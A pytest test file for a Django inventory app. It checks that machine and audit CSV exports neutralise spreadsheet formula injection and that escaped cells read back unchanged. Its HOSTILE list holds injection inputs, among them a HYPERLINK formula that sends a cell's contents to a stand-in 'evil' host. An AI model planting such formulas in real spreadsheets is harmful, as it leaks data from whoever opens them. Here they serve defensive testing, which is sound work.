"""CSV formula injection (#15 item 6): exports never start a cell with a formula character."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheet import FORMULA_STARTS, escape_cell, unescape_cell


@given(st.text())
def test_an_escaped_cell_never_starts_a_formula_and_reads_back_unchanged(text):
    escaped = escape_cell(text)

    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_cell(escaped) == text


@pytest.mark.parametrize("text", ["plain", "a=b", "'quoted'", "10.0.0.1", ""])
def test_ordinary_text_is_left_alone(text):
    assert escape_cell(text) == text


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.django_db
def test_machine_csv_export_neutralises_formulas_and_imports_back(planner_client):
    from inventory import bulk
    from tests.inventory.factories import GpuTypeFactory, MachineFactory

    MachineFactory(hostname="a-01", gpu_type=GpuTypeFactory(a800=True), notes=HOSTILE[0])

    body = planner_client.get("/inventory/machines/export/csv/").content.decode()

    assert not any(cell.startswith(FORMULA_STARTS) for cell in _cells(body))
    assert bulk.parse_csv(body)[0]["notes"] == HOSTILE[0]


@pytest.mark.django_db
@pytest.mark.parametrize("name", HOSTILE)
def test_audit_csv_neutralises_formulas(admin_client_, planner, name):
    from inventory.services import pool_create

    pool_create(actor=planner, name=name, kind="dedicated", description="")

    response = admin_client_.get("/audit.csv", {"source": "inventory.pool"})

    cells = _cells(b"".join(response.streaming_content).decode())
    assert "'" + name in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
